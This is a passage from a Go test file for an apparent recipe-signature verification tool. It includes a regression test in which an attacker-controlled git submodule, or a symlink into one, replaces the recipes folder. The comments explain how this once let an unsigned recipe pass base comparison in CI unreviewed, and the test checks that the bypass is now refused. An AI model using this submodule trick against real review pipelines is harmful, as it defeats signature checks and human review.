	write, git := testRepo(t, tools[0], dir)
	write("x", "x\n")
	write("x\ny", "x newline y\n")
	git("init", "-q")
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	b := &Base{Git: tools[0], Rev: "HEAD"}
	oid := func(p string) string {
		out, err := b.git(context.Background(), dir, "rev-parse", "HEAD:"+p)
		if err != nil {
			t.Fatal(err)
		}
		return strings.TrimSpace(string(out))
	}
	if got, known, err := b.reach(context.Background(), dir, "x\ny"); err != nil || !known || got != oid("x\ny") {
		t.Errorf(`reach "x\ny": %q, %v, %v; want %s (not the file x, %s)`, got, known, err, oid("x\ny"), oid("x"))
	}
	if got, known, err := b.reach(context.Background(), dir, "x\nz"); err != nil || known {
		t.Errorf(`reach "x\nz", which the base lacks: %q, %v, %v; want missing`, got, known, err)
	}
	if got, known, err := b.reach(context.Background(), dir, "x"); err != nil || !known || got != oid("x") {
		t.Errorf("reach x: %q, %v, %v; want %s", got, known, err, oid("x"))
	}
}

// TestRecipesInSubmodule: a change that makes the recipes folder a
// submodule, or a link into one (a repository the change's author
// controls, checked out by a CI that checks out submodules), is refused by
// every comparison with the base: git run in the recipes folder reads the
// submodule's own history, whose origin/main is whatever its remote holds,
// so the unsigned recipe was compared with itself (no trust change, no
// recipe changed, none gone) and verify --base origin/main --changed passed
// the change with no REVIEW line.
func TestRecipesInSubmodule(t *testing.T) {
	tools := testenv.RequireTool(t, "git")
	draft := edit(t, helloRecipe, openpgpSig, `signature: {none: upstream signs nothing}`)
	// The change's author's repository, its main the unsigned recipe.
	evil := t.TempDir()
	writeEvil, gitEvil := testRepo(t, tools[0], evil)
	writeEvil("hello.yaml", draft)
	gitEvil("init", "-q", "-b", "main")
	gitEvil("add", "-A")
	gitEvil("commit", "-q", "-m", "recipes")
	// The recipes repository.
	origin := t.TempDir()
	writeOrigin, gitOrigin := testRepo(t, tools[0], origin)
	writeOrigin("recipes/hello.yaml", helloRecipe)
	writeOrigin("keys/upstream.asc", "key\n")
	gitOrigin("init", "-q", "-b", "main")
	gitOrigin("add", "-A")
	gitOrigin("commit", "-q", "-m", "base")
	for _, tt := range []struct{ name, sub string }{
		{"the recipes folder a submodule", "recipes"},
		{"the recipes folder a link into a submodule", "vendor/recipes"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			// A CI checkout of the recipes repository with the change.
			dir := filepath.Join(t.TempDir(), "ci")
			testenv.Run(t, tools[0], "clone", "-q", origin, dir)
			_, git := testRepo(t, tools[0], dir)
			git("rm", "-q", "-r", "recipes")
			git("-c", "protocol.file.allow=always", "submodule", "add", "-q", evil, tt.sub)
			if tt.sub != "recipes" {
				if err := os.Symlink(tt.sub, filepath.Join(dir, "recipes")); err != nil {
					t.Fatal(err)
				}
				git("add", "recipes")
			}
			git("commit", "-q", "-m", "recipes from elsewhere")

			recipes := filepath.Join(dir, "recipes")
			r, err := recipe.Load(filepath.Join(recipes, "hello.yaml"), recipe.LoadOptions{Root: dir})
			if err != nil {
				t.Fatal(err)
			}
			b := &Base{Git: tools[0], Rev: "origin/main"}
			ctx := context.Background()
			refused := func(what string, err error) {
				t.Helper()
				if msg := fmt.Sprint(err); !errors.Is(err, ErrBase) || !strings.Contains(msg, "the submodule "+tt.sub+" of "+dir) || !strings.Contains(msg, "never a submodule's") {
					t.Errorf("%s: %v; want ErrBase naming the submodule %s", what, err, tt.sub)
				}
			}
			got, err := b.Changed(ctx, recipes, []*recipe.Recipe{r})
			refused(fmt.Sprintf("--changed (picked %d)", len(got)), err)
			_, err = b.load(ctx, r, t.TempDir())
			refused("the base's recipe", err)
			gone, err := b.RecipesGoneReview(ctx, recipes)
			refused(fmt.Sprintf("recipes gone (%d)", len(gone)), err)
			attrs, err := b.AttributesReview(ctx, recipes)
			refused(fmt.Sprintf("attributes (%d)", len(attrs)), err)
		})
	}
}
